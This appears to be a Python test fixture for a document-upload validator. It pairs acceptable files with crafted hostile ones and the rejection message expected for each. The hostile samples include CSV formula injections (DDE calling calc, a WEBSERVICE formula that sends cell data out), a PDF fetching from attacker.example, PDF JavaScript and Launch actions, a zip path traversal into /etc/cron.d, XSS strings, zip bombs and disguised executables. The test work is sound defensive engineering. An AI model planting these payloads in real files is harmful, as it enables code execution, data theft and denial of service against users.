"""Files that must stay outside, each with what is said of it, and files that must come in."""

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf

from scr_portal.documents.content import archive
from scr_portal.documents.kinds import Kind
from tests.scr_portal.documents import files

UTF_16 = "A word, and another".encode("utf-16")
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 60


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


GOOD = [
    ("a.docx", files.docx(), Kind.DOCX),
    ("A.DOCX", files.docx(), Kind.DOCX),
    ("a.xlsx", files.xlsx("One", "Two"), Kind.XLSX),
    ("a.pptx", files.pptx("One", "Two"), Kind.PPTX),
    ("a.pdf", files.pdf(), Kind.PDF),
    ("a.png", files.png(), Kind.PNG),
    ("a.jpg", files.jpeg(), Kind.JPEG),
    ("a.jpeg", files.jpeg(4000, 3000), Kind.JPEG),
    ("a.txt", b"Plain words\r\n", Kind.TXT),
    ("a.txt", "Zażółć gęślą jaźń".encode(), Kind.TXT),
    ("a.txt", UTF_16, Kind.TXT),
    ("a.txt", "It’s Siân".encode("cp1252"), Kind.TXT),
    ("a.csv", b"name;date\nA;2026-03-02\n", Kind.CSV),
    ("a.eml", files.eml(), Kind.EML),
    ("a.eml", files.eml("MZ asked about Monday"), Kind.EML),
    ("a.eml", files.eml("Both", ("minutes.docx", files.docx()), ("x.ics", b"BEGIN")), Kind.EML),
    ("a.msg", files.msg(), Kind.MSG),
    (
        "chart.docx",
        files.docx(**{"word/embeddings/Sheet1.xlsx": files.xlsx("One")}),
        Kind.DOCX,
    ),
    (
        "linked.docx",
        files.docx(
            **{
                "word/_rels/document.xml.rels": files.relationships(
                    ("hyperlink", "https://example.org/", "External"),
                    ("attachedTemplate", r"file:///\\office\templates\letter.dotx", "External"),
                    ("attachedTemplate", r"C:\templates\letter.dotx", "External"),
                )
            }
        ),
        Kind.DOCX,
    ),
    ("printer.xlsx", files.xlsx(**{"xl/printerSettings/one.bin": b"\x01\0\2"}), Kind.XLSX),
]


def rels(kind: str, target: str) -> bytes:
    part = files.relationships((kind, target, "External"))
    return files.docx(**{"word/_rels/settings.xml.rels": part})


def locked_zip() -> bytes:
    content = bytearray(files.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 1)
    return bytes(content)


def twice() -> bytes:
    held = io.BytesIO(files.docx())
    with zipfile.ZipFile(held, "a") as parts:
        parts.writestr("WORD/document.xml", "<other/>")
    return held.getvalue()


def with_size(content: bytes, name: str, size: int) -> bytes:
    """The same archive, whose list says another size for one part."""
    changed = bytearray(content)
    at = content.rfind(name.encode()) - 46
    assert changed[at : at + 4] == b"PK\x01\x02"
    changed[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(changed)


def acting(**root: Any) -> bytes:
    """A PDF with something more at its root."""
    return changed(lambda pdf: pdf.Root.update(pikepdf.Dictionary(**root)))


def changed(change: Callable[[pikepdf.Pdf], Any], **saving: Any) -> bytes:
    pdf, held = pikepdf.open(io.BytesIO(files.pdf())), io.BytesIO()
    change(pdf)
    pdf.save(held, **saving)
    return held.getvalue()


def annotated(**annotation: Any) -> bytes:
    one = {"Type": pikepdf.Name.Annot, "Rect": [0, 0, 9, 9], **annotation}
    return changed(
        lambda pdf: pdf.pages[0].obj.update(pikepdf.Dictionary(Annots=[pikepdf.Dictionary(**one)]))
    )


def fetching(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents.F = "//attacker.example/share/page"


def attaching(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["plan.exe"] = EXE


SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
LATER = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=[SCRIPT])

HOSTILE = {
    "a zip named .docx": ("plan.docx", files.zipped({"plan.txt": "Plan"}), "is an archive"),
    "a zip": ("plan.zip", files.zipped({"plan.txt": "Plan"}), "is an archive"),
    "word without its list": ("a.docx", files.zipped({"word/document.xml": "x"}), "an archive"),
    "a list without word": (
        "a.docx",
        files.zipped({"[Content_Types].xml": files.content_types(files.DOCUMENT)}),
        "an archive",
    ),
    "macros by part": ("a.docx", files.docx(**{"word/vbaProject.bin": b"x"}), "holds macros"),
    "macros by list": ("a.docx", files.docx(types=(MACRO,)), "holds macros"),
    "macros of Excel 4": ("a.xlsx", files.xlsx(**{"xl/macrosheets/s.xml": "<a/>"}), "holds macros"),
    "a control": ("a.docx", files.docx(**{"word/activeX/activeX1.xml": "<a/>"}), "holds macros"),
    "a program inside": ("a.docx", files.docx(**{"word/media/x.png": EXE}), "may be a program"),
    "a program by name": ("a.docx", files.docx(**{"word/x.exe": b"text"}), "may be a program"),
    "an OLE package": (
        "a.docx",
        files.docx(**{"word/embeddings/oleObject1.bin": files.ole(("Package", b"x"))}),
        "may be a program",
    ),
    "a zip in a document": (
        "a.docx",
        files.docx(**{"word/media/x.zip": files.zipped({"a": "b"})}),
        "may be a program",
    ),
    "macros in a document's workbook": (
        "a.docx",
        files.docx(**{"word/embeddings/a.xlsx": files.xlsx(**{"xl/vbaProject.bin": b"x"})}),
        "may be a program",
    ),
    "a workbook in a workbook in a document": (
        "a.docx",
        files.docx(
            **{"word/embeddings/a.xlsx": files.xlsx(**{"xl/embeddings/b.xlsx": files.xlsx("deep")})}
        ),
        "may be a program",
    ),
    "a template from the internet": (
        "a.docx",
        rels("attachedTemplate", "https://example.org/t.dotm"),
        "fetches something",
    ),
    "an object from the internet": (
        "a.docx",
        rels("oleObject", "mhtml:http://example.org/x!y"),
        "fetches something",
    ),
    "DDE": (
        "a.xlsx",
        files.xlsx(**{"xl/externalLinks/e1.xml": f'<e xmlns="{files.SHEET}"><ddeLink/></e>'}),
        "fetches something",
    ),
    "a locked part": ("a.docx", locked_zip(), "locked with a password"),
    "a locked document": ("a.docx", files.ole(("EncryptedPackage", b"x")), "by a password"),
    "an entity that grows": (
        "a.docx",
        files.zipped(
            {
                "[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>',
                "word/document.xml": "<a/>",
            }
        ),
        "is damaged",
    ),
    "two parts of one name": ("a.docx", twice(), "is damaged"),
    "a part with a path": ("a.docx", files.docx(**{"../../etc/cron.d/x": "x"}), "is damaged"),
    "half a document": ("a.docx", files.docx()[:200], "is damaged"),
    "a part larger than it says": (
        "a.docx",
        with_size(files.docx("x" * 5000), "word/document.xml", 10),
        "is damaged",
    ),
    "a zip bomb": ("a.docx", files.docx("0" * (30 * 1024 * 1024)), "zip bomb"),
    "a bomb of many parts": (
        "a.docx",
        files.zipped({f"word/{number}": "" for number in range(archive.MOST_PARTS + 1)}),
        "zip bomb",
    ),
    "a bomb that declares": (
        "a.docx",
        with_size(files.docx(), "word/document.xml", 2**32 - 2),
        "zip bomb",
    ),
    "PDF that is none": ("a.pdf", b"%PDF-1.7 and then nothing of it", "not a whole one"),
    "PDF by name alone": ("a.pdf", b"Dear coroner", "is not a PDF inside"),
    "PDF behind something": ("a.pdf", b"\n\n" + files.pdf(), "is not a PDF inside"),
    "a page in a PDF": (
        "a.pdf",
        files.pdf(head=b"%PDF-1.7 <html><script>alert(1)</script>\n"),
        "a web page and a PDF",
    ),
    "a page behind a PDF": ("a.pdf", files.pdf(tail=b"<html>"), "a web page and a PDF"),
    "a zip behind a PDF": ("a.pdf", files.pdf(tail=files.zipped({"a": "b"})), "hidden behind"),
    "a zip behind a picture": ("a.jpg", files.jpeg(tail=files.zipped({"a": "b"})), "hidden behind"),
    "something behind a picture": ("a.png", files.png(tail=b"more"), "is damaged or holds more"),
    "a picture cut off": ("a.png", files.png()[:-6], "is damaged"),
    "a picture without a frame": ("a.jpg", b"\xff\xd8\xff\xd9" + b"x" * 40, "is damaged"),
    "a flood of pixels": ("a.png", files.png(60_000, 60_000), "60000 by 60000 pixels"),
    "a flood of pixels in JPEG": ("a.jpg", files.jpeg(65_000, 65_000), "65000 by 65000 pixels"),
    "NUL in text": ("a.txt", b"Words\0and more", "is not plain text"),
    "a control in a table": ("a.csv", b"a;b\x1b[2J", "is not plain text"),
    "a page as text": ("a.txt", b"  <!DOCTYPE html><script>", "a web page, a script"),
    "a program as text": ("a.txt", EXE, "is not plain text"),
    "a program": ("a.exe", EXE, "can't be taken"),
    "a program with a turned name": ("a.docx", EXE, "is not a Word document inside"),
    "an email that is none": ("a.eml", b"Dear all,\n\nno headers", "is not an email"),
    "a program in an email": ("a.eml", files.eml("x", ("a.pdf", EXE)), "carries “a.pdf”"),
    "a script in an email": ("a.eml", files.eml("x", ("a.js", b"x")), "carries “a.js”"),
    "a zip in an email": ("a.eml", files.eml("x", ("a.zip", b"PK\x03\x04x")), "carries “a.zip”"),
    "macros in an email": (
        "a.eml",
        files.eml("x", ("a.docx", files.docx(**{"word/vbaProject.bin": b"x"}))),
        "carries “a.docx”",
    ),
    "a compound file of nobody": ("a.msg", files.ole(("Something", b"x")), "can't be read"),
    "half a compound file": ("a.msg", files.msg()[:700], "can't be read"),
    "no bytes": ("a.pdf", b"", "is empty"),
    "no ending": ("minutes", files.docx(), "ends in .docx"),
    "another ending": ("minutes.pdf", files.docx(), "is a Word document inside"),
    "two endings": ("minutes.pdf.exe", files.pdf(), "ends in .pdf"),
    # --- what a PDF does by itself
    "a script on opening": ("a.pdf", acting(OpenAction=SCRIPT), "runs a script"),
    "a program on opening": ("a.pdf", acting(OpenAction=LAUNCH), "runs a script"),
    "a script after a jump": ("a.pdf", acting(OpenAction=LATER), "runs a script"),
    "a script before printing": (
        "a.pdf",
        acting(AA=pikepdf.Dictionary(WP=SCRIPT)),
        "runs a script",
    ),
    "a script by name": (
        "a.pdf",
        acting(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", SCRIPT]))),
        "runs a script",
    ),
    "a script under a link": (
        "a.pdf",
        annotated(Subtype=pikepdf.Name.Link, A=SCRIPT),
        "runs a script",
    ),
    "a program under a link": (
        "a.pdf",
        annotated(Subtype=pikepdf.Name.Link, A=LAUNCH),
        "runs a script",
    ),
    "a film in a PDF": ("a.pdf", annotated(Subtype=pikepdf.Name.RichMedia), "runs a script"),
    "a program in a PDF": ("a.pdf", changed(attaching), "carries other files"),
    "a file pinned to a page": (
        "a.pdf",
        annotated(Subtype=pikepdf.Name.FileAttachment),
        "carries other files",
    ),
    "a PDF of elsewhere": ("a.pdf", changed(fetching), "fetches part of itself"),
    "a PDF for one program": ("a.pdf", acting(NeedsRendering=True), "only one program"),
    "a locked PDF": (
        "a.pdf",
        changed(lambda pdf: None, encryption=pikepdf.Encryption(user="x", owner="y")),
        "protected by a password",
    ),
    "a PDF of nothing": (
        "a.pdf",
        b"%PDF-1.7\nnothing of it\nstartxref\n0\n%%EOF\n",
        "can't be read",
    ),
    # --- pages, pictures and programs under another name
    "a page named PDF": ("a.pdf", b"<html><script>alert(1)</script>", "is not a PDF inside"),
    "a drawing named picture": ("a.png", b'<svg onload="alert(1)"/>', "is not a PNG"),
    "a script in a picture": ("a.jpg", files.jpeg(tail=b"<script>alert(1)</script>"), "is damaged"),
    "a moving picture with a script": ("a.jpg", b"GIF89a/*<script>*/=1;", "is not a JPEG"),
    "a flood of pixels in a document": (
        "a.docx",
        files.docx(**{"word/media/image1.png": files.png(60_000, 60_000)}),
        "60000 by 60000 pixels",
    ),
    "a flood of pixels in a document, JPEG": (
        "a.docx",
        files.docx(**{"word/media/image1.jpeg": files.jpeg(65_000, 65_000)}),
        "65000 by 65000 pixels",
    ),
    "a picture that tells who looks": (
        "a.docx",
        rels("image", "https://example.org/pixel.png"),
        "fetches something",
    ),
    "a frame from the internet": (
        "a.docx",
        rels("frame", "http://example.org/x"),
        "fetches something",
    ),
    # --- tables that a spreadsheet works out
    "DDE in a table": ("a.csv", b"name,date\n=cmd|' /C calc'!A0,x\n", "holds a formula"),
    "a formula that fetches": (
        "a.csv",
        b'name;note\nA;"=WEBSERVICE(""http://example.org/""&A1)"\n',
        "holds a formula",
    ),
    "a formula behind a sign": ("a.csv", b"A,+SUM(A1)\n", "holds a formula"),
    "another format named table": ("a.csv", b"ID;P\nO;E\nNN;NAuto_open;ER101C1\n", "a formula"),
    # --- what an email carries
    "a screen saver in an email": (
        "a.eml",
        files.eml("x", ("invoice.pdf.scr", b"x")),
        "carries “invoice.pdf.scr”",
    ),
    "a disk in an email": ("a.eml", files.eml("x", ("a.iso", b"x")), "carries “a.iso”"),
    "a shortcut in an email": (
        "a.eml",
        files.eml("x", ("a.txt", b"L\x00\x00\x00\x01\x14\x02\x00")),
        "carries “a.txt”",
    ),
}
